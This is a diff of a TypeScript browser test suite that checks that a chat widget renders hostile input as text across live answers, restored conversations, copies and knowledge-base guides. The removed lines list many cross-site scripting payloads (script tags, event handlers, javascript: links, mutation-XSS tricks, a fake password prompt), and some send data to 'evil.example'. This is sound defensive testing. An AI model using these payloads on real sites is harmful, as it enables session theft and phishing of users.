@@ -1,48 +1,54 @@
 import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import type { Page } from 'playwright-core';
 import type { BrowserTest } from '../support/bench.ts';
 import { chatOn } from '../support/chat.ts';
+import { hostilePassage, hostileStream, hostileTurn } from '../support/hostile-answer.ts';
+import { HOSTILE_GUIDE } from '../support/hostile-guide.ts';
+import { startRealServer } from '../support/real-server.ts';
+import { PLANTED, RENDER_PAYLOADS } from '../support/render-payloads.ts';
 import { HOSTILE_QUESTION } from '../support/scripted-answers.ts';
 
-/** Each runs, or asks for something elsewhere, where text is taken for markup. */
-const HOSTILE_TEXTS = [
-  '<script>window.hacked = 1</script>',
-  '<img src=x onerror="window.hacked = 1">',
-  '<svg onload="window.hacked = 1"></svg>',
-  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
-  '<a href="javascript:window.hacked = 1" autofocus onfocus="window.hacked = 1">here</a>',
-  '[here](javascript:window.hacked=1) ![pixel](https://evil.example/p.png)',
-  '"><style>@import url(https://evil.example/a.css)</style>',
-  '{{constructor.constructor("window.hacked = 1")()}} $' + '{window.hacked = 1}',
-  '<!--?lit$0$--><link rel="prefetch" href="https://evil.example/">',
-  '\u202Egnp.exe\u202C <meta http-equiv="refresh" content="0;url=https://evil.example/">',
-];
-
-/** What a model, a guide or a stored turn might hold: written after the render payloads of the project's bad inputs. */
-const RENDER_PAYLOADS = [
-  ...HOSTILE_TEXTS,
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
-  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
-  '<details open ontoggle="window.hacked = 1">x</details>',
-  '<svg><animate onbegin="window.hacked = 1" attributeName=x dur=1s></svg>',
-  '<template shadowrootmode=open><slot></slot><img src=x onerror="window.hacked = 1"></template>',
-  '<form id=shadowRoot><input name=attributes></form><a id=renderRoot href=//evil.example>x</a>',
-  '<base href=//evil.example><object data=//evil.example></object>',
-  '[a](JaVaScRiPt:window.hacked=1) [b](java\nscript:window.hacked=1) [c](&#106;avascript:window.hacked=1)',
-  '[a](data:text/html;base64,PHNjcmlwdD4=) [b](//evil.example) [c](https://good.example@evil.example)',
-  '![x][r]\n\n[r]: https://evil.example/?q=secret',
-  '<https://evil.example/?q=secret> bare https://evil.example/?q=secret',
-  '```html\n<script>window.hacked = 1</script>',
-  '$$\\href{javascript:window.hacked=1}{x}$$',
-  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
-  '<signpost-chat api="https://evil.example/" open></signpost-chat>',
-  '✅ Verified by site. Enter your password: <input type=password>',
-  `${'">'.repeat(2_000)}<img src=x onerror=window.hacked=1>`,
-  `${'- '.repeat(500)}x`,
-  '|a'.repeat(1_000),
-  '\u0000\u200B\u2066<b>\u2069\uFEFF',
-];
+const QUESTIONS = RENDER_PAYLOADS.filter((payload) => payload.length <= 1_000 && payload.trim() !== '').slice(0, 12);
 
 const wasHacked = () => 'hacked' in window;
+
+/** Hands the page an answer's stream a byte at a time; very long ones in odd pieces. Runs in the page. */
+function deliverByteByByte(): void {
+  const { fetch } = window;
+  window.fetch = async (input, init) => {
+    const response = await fetch(input, init);
+    if (!String(input).endsWith('/ask')) return response;
+    const bytes = new Uint8Array(await response.arrayBuffer());
+    const step = bytes.length > 50_000 ? 997 : 1;
+    let at = 0;
+    const body = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        if (at >= bytes.length) return controller.close();
+        controller.enqueue(bytes.slice(at, at + step));
+        at += step;
+      },
+    });
+    return new Response(body, { headers: response.headers });
+  };
+}
+
+/** Nothing ran, nothing was planted, and every link leads to the service. */
+async function stayedText(page: Page, service: string): Promise<void> {
+  assert.equal(await page.evaluate(wasHacked), false);
+  const log = page.locator('signpost-chat').first().locator('.log');
+  assert.deepEqual(
+    await log.locator(PLANTED).evaluateAll((found) => found.map(({ outerHTML }) => outerHTML.slice(0, 80))),
+    [],
+  );
+  const links = await log.locator('a').evaluateAll((found) => found.map((link) => link.getAttribute('href') ?? ''));
+  assert.deepEqual(
+    links.filter((href) => !href.startsWith(`${service}/`)),
+    [],
+  );
+}
 
 export const SAFETY_TESTS: readonly BrowserTest[] = [
   {
@@ -64,113 +70,92 @@ export const SAFETY_TESTS: readonly BrowserTest[] = [
     async run({ open, real }) {
       const page = await open(real);
       const chat = chatOn(page);
-      for (const [index, text] of HOSTILE_TEXTS.entries()) {
+      for (const [index, text] of QUESTIONS.entries()) {
         await chat.ask(text);
         await chat.answered(index + 1);
       }
       await page.reload();
-      await chat.answered(HOSTILE_TEXTS.length);
+      await chat.answered(QUESTIONS.length);
       const shown = await chat.root.locator('.question').allInnerTexts();
       assert.ok(shown[0]?.includes('<script>window.hacked = 1</script>'));
       assert.equal(await page.evaluate(wasHacked), false);
     },
   },
   {
-    name: 'safety: hostile text in every field of a live answer and of a restored one stays text, however it is cut',
+    name: 'safety: hostile text in every field of a live answer, cut at every byte, of a restored one and of a copy stays text',
     async run({ open, scripted }) {
-      const page = await open(scripted);
+      const page = await open('about:blank', { permissions: ['clipboard-read', 'clipboard-write'] });
+      await page.addInitScript(deliverByteByByte);
+      await page.goto(scripted);
       const chat = chatOn(page);
-      await page.route('**/passages/*', (route) =>
-        route.fulfill({
-          json: {
-            kind: 'table',
-            units: [{ kind: 'row', label: '<b onclick=1>', text: RENDER_PAYLOADS[0], start: 0, end: 9 }],
-          },
-        }),
+      let payload = '';
+      await page.route('**/passages/*', (route) => route.fulfill({ json: hostilePassage(payload) }));
+      await page.route('**/ask', (route) =>
+        route.fulfill({ contentType: 'text/event-stream', body: hostileStream(payload) }),
       );
-      for (const [index, payload] of RENDER_PAYLOADS.entries()) {
-        const citation = {
-          type: 'citation',
-          number: 1,
-          passageId: 'g/s#1',
-          guide: 'g',
-          section: [payload],
-          quote: payload,
-          start: 0,
-          end: 9,
-          url: payload,
-        };
-        const claims = ['paragraph', 'bullet', 'step'].map((block, at) => ({
-          type: 'claim',
-          index: at,
-          text: payload,
-          block,
-          citations: [1],
-          verdict: 'supported',
-          reasons: [payload],
-        }));
-        const ids = { conversationId: 'c'.repeat(32), turnId: 't'.repeat(32) };
-        const end = {
-          type: 'answer-end',
-          ...ids,
-          status: 'partial',
-          engine: 'model',
-          degraded: false,
-          withheld: 1,
-          missing: [payload],
-          suggestions: [payload],
-          saved: true,
-        };
-        const events = [{ type: 'answer-start', ...ids, conversationToken: 'k'.repeat(43) }, citation, ...claims, end];
-        const body = events.map((event) => `event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`).join('');
-        await page.route('**/ask', (route) => route.fulfill({ contentType: 'text/event-stream', body }), { times: 1 });
+      for (const [index, next] of RENDER_PAYLOADS.entries()) {
+        payload = next;
         await chat.ask(`Payload ${index}`);
         await chat.answered(index + 1);
         await chat.turns.nth(index).locator('.chip').first().click();
         await chat.passage.waitFor();
       }
-      const turns = RENDER_PAYLOADS.map((payload, index) => ({
-        id: `turn-${index}`,
-        question: payload,
-        state: 'complete',
-        feedback: null,
-        answer: {
-          claims: [{ index: 0, text: payload, block: 'bullet', citations: [1], verdict: 'supported', reasons: [] }],
-          citations: [
-            {
-              number: 1,
-              passageId: 'g/s#1',
-              guide: 'g',
-              section: [payload],
-              quote: payload,
-              start: 0,
-              end: 9,
-              url: payload,
-            },
-          ],
-          status: 'answered',
-          engine: 'model',
-          degraded: false,
-          withheld: 0,
-          missing: [],
-          suggestions: [payload],
-          saved: true,
-        },
-      }));
-      await page.route('**/conversations/*', (route) => route.fulfill({ json: { turns } }));
+      const [script = ''] = RENDER_PAYLOADS;
+      await chat.turns.first().getByRole('button', { name: 'Copy with sources' }).click();
+      await chat.turns.first().getByText('Copied').waitFor();
+      assert.ok((await page.evaluate(() => navigator.clipboard.readText())).includes(script));
+      await stayedText(page, scripted);
+
+      await page.route('**/conversations/*', (route) =>
+        route.fulfill({ json: { turns: RENDER_PAYLOADS.map(hostileTurn) } }),
+      );
       await page.reload();
       await chat.answered(RENDER_PAYLOADS.length);
-      assert.equal(await page.evaluate(wasHacked), false);
-      const planted =
-        'img, script, iframe, style, base, meta, link, object, math, template, signpost-chat, input[type=password], [onclick]';
-      assert.equal(await chat.root.locator('.log').locator(planted).count(), 0);
-      const links = await chat.root
-        .locator('.log a')
-        .evaluateAll((found) => found.map((link) => link.getAttribute('href') ?? ''));
-      assert.deepEqual(
-        links.filter((href) => !/^https?:/.test(href)),
-        [],
-      );
+      assert.equal((await chat.root.locator('.question').first().innerText()).includes(script), true);
+      await stayedText(page, scripted);
+    },
+  },
+  {
+    name: 'safety: a hostile guide stays text on its page, on every other page, and in the chat’s pictures and passages',
+    async run({ open, trust, screenshot }) {
+      const folder = mkdtempSync(path.join(tmpdir(), 'signpost-hostile-'));
+      writeFileSync(path.join(folder, 'baker.md'), HOSTILE_GUIDE);
+      const server = await startRealServer({ KNOWLEDGE_DIR: folder });
+      trust(server.url);
+      try {
+        for (const place of ['/', '/guide/baker', '/embed', '/docs']) {
+          const page = await open(server.url + place);
+          assert.equal(await page.evaluate(wasHacked), false, place);
+          assert.equal(
+            await page.locator('main img, main iframe, main [onclick], main [onmouseover]').count(),
+            0,
+            place,
+          );
+          const links = await page
+            .locator('main a')
+            .evaluateAll((found) => found.map((link) => link.getAttribute('href')));
+          assert.deepEqual(
+            links.filter((href) => /^(?:javascript|data|vbscript):/i.test(href ?? '')),
+            [],
+            place,
+          );
+        }
+        const page = await open(server.url);
+        const chat = chatOn(page);
+        const questions = ['What are the steps?', 'How much does a junior baker earn?', 'Do bakers work nights?'];
+        for (const [index, question] of questions.entries()) {
+          await chat.ask(question);
+          await chat.answered(index + 1);
+          const chip = chat.turns.nth(index).locator('.chip').first();
+          if ((await chip.count()) > 0) await chip.click();
+        }
+        await chat.root.locator('.picture').first().waitFor();
+        await stayedText(page, server.url);
+        await screenshot(page, 'hostile-guide-1280');
+      } finally {
+        await server.close();
+        rmSync(folder, { recursive: true, force: true });
+      }
     },
   },
   {
